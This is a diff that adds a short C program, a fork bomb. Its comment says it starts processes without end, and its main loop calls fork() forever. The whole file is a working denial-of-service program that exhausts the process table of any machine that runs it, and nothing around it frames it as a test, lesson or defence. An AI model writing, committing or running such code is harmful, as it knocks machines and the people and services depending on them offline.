@@ -1,0 +1,6 @@
+// Starts processes without end.
+#include <unistd.h>
+
+int main(void) {
+  for (;;) fork();
+}
